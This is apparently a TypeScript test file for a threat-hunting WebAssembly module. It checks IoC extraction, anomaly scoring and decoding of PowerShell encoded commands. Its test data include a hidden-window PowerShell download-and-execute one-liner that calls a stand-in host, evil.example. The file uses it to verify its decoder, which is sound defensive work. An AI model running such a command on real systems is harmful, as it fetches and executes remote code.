/**
 * The real wasm module in Node, driven through the worker's router: what the
 * browser runs, minus the Worker. Skipped until `scripts/build-wasm.sh` has
 * built rust/wasm/pkg.
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { HuntkitEngine } from '../engine.js';
import type { EngineRequest, EngineResponse } from '../protocol.js';
import { handleRequest, type WasmApi } from '../router.js';
import { FakeWorker } from './fakeWorker.js';

const wasmPath = fileURLToPath(new URL('../../pkg/huntkit_wasm_bg.wasm', import.meta.url));
const skip = existsSync(wasmPath)
  ? false
  : 'rust/wasm/pkg is not built (bash scripts/build-wasm.sh)';

const SAMPLE =
  'Beacon to hxxps://evil[.]example[.]com/a.php from 10.1.2.3, md5 d41d8cd98f00b204e9800998ecf8427e, ' +
  'mail bob[at]contoso.com, CVE-2021-44228, report.docx, version 1.2.3.4.5\n';

const PS_COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";

let api: WasmApi & { version(): string; iocTypes(): string[] };

function call(request: EngineRequest, chunkSize?: number): EngineResponse[] {
  const messages: EngineResponse[] = [];
  handleRequest(api, request, message => messages.push(message), chunkSize);
  return messages;
}

describe('the wasm module', { skip }, () => {
  before(async () => {
    const module = await import('../../pkg/huntkit_wasm.js');
    module.initSync({ module: readFileSync(wasmPath) });
    api = module;
  });

  it('reports its version and IoC types', () => {
    assert.match(api.version(), /^\d+\.\d+\.\d+/);
    for (const type of ['ipv4', 'dns', 'url', 'email', 'md5_hash', 'cve']) {
      assert.ok(api.iocTypes().includes(type), type);
    }
  });

  it('scores a time series through the router, the table transferred', () => {
    let csv = 'TimeGenerated,User\n';
    for (let hour = 0; hour < 240; hour++) {
      const day = String(4 + Math.floor(hour / 24)).padStart(2, '0');
      const hh = String(hour % 24).padStart(2, '0');
      const events = 5 + Math.floor((hour % 24) / 6) + (hour === 130 ? 60 : 0);
      for (let i = 0; i < events; i++) {
        csv += `2024-03-${day}T${hh}:${String(i % 60).padStart(2, '0')}:00Z,u${i}\n`;
      }
    }
    const data = new TextEncoder().encode(csv).buffer as ArrayBuffer;
    const [answer] = call({ id: 9, op: 'timeseries', data, format: 'csv', options: {} });
    assert.ok(answer.type === 'result' && answer.op === 'timeseries', JSON.stringify(answer));
    assert.deepEqual(answer.result.periods, [
      { start: '2024-03-09T09:00:00Z', end: '2024-03-09T11:00:00Z' }
    ]);
    assert.match(
      answer.result.kql,
      /^\| where TimeGenerated between \(datetime\(2024-03-09T09:00:00Z\)/
    );
    assert.deepEqual([...new Uint8Array(answer.result.table, 0, 4)], [255, 255, 255, 255]);
    const [bad] = call({
      id: 10,
      op: 'timeseries',
      data: new TextEncoder().encode('a,b\n1,2\n').buffer as ArrayBuffer,
      format: 'csv',
      options: {}
    });
    assert.ok(bad.type === 'error');
    assert.equal(bad.kind, 'missing_column');
    assert.match(bad.message, /TimeGenerated/);
  });

  it('scores sessions through the router, one JSON list per line', () => {
    const lines = '["Set-User", "Set-User"]\n["Set-Mailbox", "Set-User", "Set-User"]\n';
    const data = new TextEncoder().encode(lines).buffer as ArrayBuffer;
    const [answer] = call({
      id: 11,
      op: 'sessions',
      data,
      format: 'lines',
      options: { session_column: 'text' }
    });
    assert.ok(answer.type === 'result' && answer.op === 'sessions', JSON.stringify(answer));
    assert.deepEqual([...new Uint8Array(answer.result, 0, 4)], [255, 255, 255, 255]);
    const [bad] = call({
      id: 12,
      op: 'sessions',
      data: new TextEncoder().encode('not json\n').buffer as ArrayBuffer,
      format: 'lines',
      options: { session_column: 'text' }
    });
    assert.ok(bad.type === 'error');
    assert.equal(bad.kind, 'bad_value');
    assert.match(bad.message, /row 0 of column "text"/);
  });

  it('extracts refanged IoCs through the router, in small chunks', () => {
    const whole = call({ id: 1, op: 'ioc', input: SAMPLE, options: {} });
    const chunked = call({ id: 2, op: 'ioc', input: SAMPLE, options: {}, chunkSize: 7 });
    const result = whole.at(-1);
    assert.ok(result?.type === 'result' && result.op === 'ioc', JSON.stringify(result));
    const found = result.result.items.map(item => [item.IoCType, item.Refanged]);
    for (const expected of [
      ['url', 'https://evil.example.com/a.php'],
      ['dns', 'evil.example.com'],
      ['ipv4', '10.1.2.3'],
      ['md5_hash', 'd41d8cd98f00b204e9800998ecf8427e'],
      ['email', 'bob@contoso.com'],
      ['cve', 'CVE-2021-44228']
    ]) {
      assert.ok(
        found.some(([t, v]) => t === expected[0] && v === expected[1]),
        `${expected.join(' ')} in ${JSON.stringify(found)}`
      );
    }
    assert.ok(
      !found.some(([, v]) => v.includes('report.docx') || v.includes('1.2.3.4')),
      JSON.stringify(found)
    );
    assert.equal(typeof result.result.counts, 'object');
    assert.equal(result.result.counts.url, 1);
    assert.equal(result.result.bytes, Buffer.byteLength(SAMPLE));

    // Any split point gives the same answer.
    const last = chunked.at(-1);
    assert.ok(last?.type === 'result' && last.op === 'ioc');
    assert.deepEqual(last.result.items, result.result.items);
    assert.ok(chunked.filter(m => m.type === 'progress').length > 10);
  });

  it('reads file bytes with invalid UTF-8', () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe, 0x80]), Buffer.from(SAMPLE)]);
    const buffer = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength);
    const last = call({ id: 3, op: 'ioc', input: buffer, options: {}, chunkSize: 5 }).at(-1);
    assert.ok(last?.type === 'result' && last.op === 'ioc');
    assert.ok(last.result.items.some(item => item.Refanged === '10.1.2.3'));
  });

  it('reports bad options with their kind', () => {
    const [unknown] = call({ id: 4, op: 'ioc', input: 'x', options: { types: ['not_a_type'] } });
    assert.ok(unknown.type === 'error', JSON.stringify(unknown));
    assert.equal(unknown.kind, 'unknown_ioc_type');
    assert.match(unknown.message, /not_a_type/);
    const [invalid] = call({
      id: 5,
      op: 'decode',
      input: 'x',
      options: { max_depth: 'deep' as never }
    });
    assert.ok(invalid.type === 'error', JSON.stringify(invalid));
    assert.equal(invalid.kind, 'invalid_option');
  });

  it('decodes a PowerShell -EncodedCommand', () => {
    const encoded = Buffer.from(PS_COMMAND, 'utf16le').toString('base64');
    const [message] = call({
      id: 5,
      op: 'decode',
      input: `powershell.exe -nop -w hidden -EncodedCommand ${encoded}`,
      options: {}
    });
    assert.ok(message.type === 'result' && message.op === 'decode', JSON.stringify(message));
    assert.ok(message.result.rows.length >= 1);
    assert.ok(message.result.rows.some(row => row.decoded_string.includes('DownloadString')));
    assert.ok(
      message.result.annotated.includes('http://evil.example/a.ps1'),
      message.result.annotated
    );
    assert.equal(message.result.truncated, false);
  });

  it('runs behind HuntkitEngine with an in-process worker', async () => {
    const engine = new HuntkitEngine({
      createWorker: () =>
        new FakeWorker((request, worker) =>
          handleRequest(api, request, message => worker.send(message))
        )
    });
    const progress: number[] = [];
    const result = await engine.extractIocs(SAMPLE.repeat(50), {}, done => progress.push(done));
    assert.ok(result.items.some(item => item.Refanged === 'bob@contoso.com'));
    assert.equal(result.items.find(item => item.Refanged === '10.1.2.3')?.Count, 50);
    assert.ok(progress.length >= 1);
    await assert.rejects(engine.extractIocs('x', { types: ['nope'] }), {
      kind: 'unknown_ioc_type'
    });
    engine.dispose();
  });
});
